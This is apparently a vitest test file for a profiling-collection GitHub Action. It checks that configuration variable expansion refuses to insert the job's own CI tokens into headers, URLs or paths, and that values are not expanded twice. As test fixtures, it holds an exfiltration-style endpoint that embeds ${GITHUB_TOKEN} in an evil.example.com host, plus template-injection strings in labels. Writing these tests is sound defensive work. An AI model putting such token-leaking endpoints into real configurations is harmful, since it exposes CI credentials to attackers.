import { describe, expect, test } from 'vitest';
import { collectPrometheus } from '../../src/collect/prometheus.ts';
import { createContext } from '../contract/context.ts';
import * as server from '../harness/pprof-server.ts';
import { read, refusal } from './scene.ts';

/** Which variables the configuration may name: only those that stand in its own text, and never the job's own tokens. */

const TOKEN = 'ghs_theTokenOfThisJob0123456789';
const bearer = (token: string) =>
  `- pprof: http://10.0.0.7:6060\n  headers: { Authorization: "Bearer ${token}" }`;

describe('the job’s own tokens', () => {
  test.each([
    ...['GITHUB_TOKEN', 'GH_ENTERPRISE_TOKEN', 'github_token'],
    ...['ACTIONS_RUNTIME_TOKEN', 'ACTIONS_ID_TOKEN_REQUEST_TOKEN', 'ACTIONS_RESULTS_URL'],
    ...['INPUT_TOKEN', 'INPUT_SOURCES'],
  ])('no source gets %s, whether it is set or not', async (name) => {
    const sources = bearer(`\${${name}}`);
    for (const env of [{}, { [name]: 'x' }]) {
      const message = await refusal({ raw: { sources }, env });
      expect(message).toMatch(/^sources\[0\]\.headers\.Authorization: /);
      for (const named of [`\`\${${name}}\``, '`env: { PROFILES_TOKEN:']) expect(message).toContain(named);
    }
  });

  const endpoint = 'prometheus: "http://p", query: q, endpoint:';
  test.each([
    ['a password', '- { parca: "https://p", query: q, username: u, password: "${T}" }'],
    ['a token', '- { pyroscope: "https://p", query: q, token: "${T}" }'],
    ['a path', '- http://10.0.0.7:6060/${T}/debug/pprof/profile'],
    ['a whole URL', '- { pprof: "${T}" }'],
    ['a header of one', `- { ${endpoint} "http://{{i}}", endpoint-headers: { X: "\${T}" } }`],
  ])('nor under another name: %s', async (_what, sources) => {
    // Workflows quote it and put other text around it.
    for (const T of [TOKEN, ` ${TOKEN}\n`, `Bearer ${TOKEN}`]) {
      const byInput = { raw: { sources, token: TOKEN }, env: { T } };
      const byVariable = { raw: { sources }, env: { T, ACTIONS_RUNTIME_TOKEN: TOKEN } };
      for (const given of [byInput, byVariable]) {
        const message = await refusal(given);
        expect(message).toMatch(/ variable T .*job's own token/);
        expect(message).not.toContain(TOKEN);
      }
    }
  });

  test('nor by `${{ github.token }}` in the input', async () => {
    const message = await refusal({ raw: { sources: bearer(TOKEN), token: TOKEN } });
    expect(message).toMatch(/^sources\[0\]\.headers\.Authorization .*job's own token/);
    expect(message).not.toContain(TOKEN);
  });

  test.each([
    'production: { prometheus: "http://p", cpu: c, released: now, token: "${GITHUB_TOKEN}" }',
    'archive: { s3: "s3://b/p/", endpoint: "https://${GITHUB_TOKEN}.evil.example.com" }',
  ])('nor %s', async (file) => {
    expect(await refusal({ file })).toContain('`${GITHUB_TOKEN}`');
  });

  test('secrets of their own are looked up', async () => {
    const sources = '- { parca: "https://p", query: q, token: "${PARCA_TOKEN}" }';
    const env = { PARCA_TOKEN: 'parca-0123', GITHUB_TOKEN: TOKEN, GH_TOKEN: '' };
    const { configs } = await read({ raw: { sources, token: TOKEN }, env });
    expect(configs[0]?.sources[0]).toMatchObject({ headers: { Authorization: 'Bearer parca-0123' } });
  });
});

describe('variables that are not in the text of the configuration', () => {
  const file = (text: string, name: string) =>
    `targets: [{ working-directory: ${name}, sources: [{ pprof: 'http://h/\${PGO_TARGET}', headers: { X: '${text}' } }] }]`;

  test.each([
    ['${${PGO_TARGET}}', 'A_TOKEN'],
    ['${KEY_${PGO_TARGET}}', 'api'],
  ])('a target’s name makes none: %s', async (text, name) => {
    const env = { A_TOKEN: 'a secret', KEY_api: 'a secret', api_api: 'a secret' };
    const message = await refusal({ file: file(text, name), modules: [name], env });
    expect(message).toContain('`${PGO_TARGET}`');
    expect(message).not.toContain('a secret');
  });

  test('a value that looks like one is not looked up again', async () => {
    const sources = '- { pprof: "http://h/${A}", headers: { X: "${A}" } }';
    const { configs } = await read({ raw: { sources }, env: { A: '${B}', B: 'a secret' } });
    expect(JSON.stringify(configs)).not.toContain('a secret');
    expect(configs[0]?.sources[0]).toMatchObject({ headers: { X: '${B}' } });
  });

  test('a label of Prometheus that looks like one is not looked up', async () => {
    await using profiled = await server.startPprofServer({ debug: server.ok() });
    const metric = { instance: new URL(profiled.url).host, job: '${SECRET}', pod: '{{SECRET}}${SECRET}' };
    const data = { resultType: 'vector', result: [{ metric, value: [0, '1'] }] };
    const answer = JSON.stringify({ status: 'success', data });
    await using api = await server.startPprofServer({
      api: server.answer(200, answer, { 'content-type': 'application/json' }),
    });
    const env = { SECRET: 'a-secret-value', NAMED: 'named' };
    const sources = `- prometheus: ${api.url}
  query: up
  endpoint: 'http://{{instance}}/debug/{{job}}/profile?pod={{pod}}&named=\${NAMED}'
  endpoint-headers: { X-Job: '{{job}}' }
  seconds: 1`;
    const { configs } = await read({ raw: { sources }, env });
    const [source] = configs[0]?.sources ?? [];
    if (source?.kind !== 'prometheus') throw new Error('another source');
    await using context = await createContext({ env });
    await collectPrometheus(source, context);
    const { pathname, searchParams } = new URL(profiled.requests[0]?.url ?? '', profiled.url);
    expect(decodeURIComponent(pathname)).toBe('/debug/${SECRET}/profile');
    expect(searchParams.get('pod')).toBe('{{SECRET}}${SECRET}');
    expect(searchParams.get('named')).toBe('named');
    expect(JSON.stringify([...profiled.requests, ...api.requests])).not.toContain('a-secret-value');
  });
});
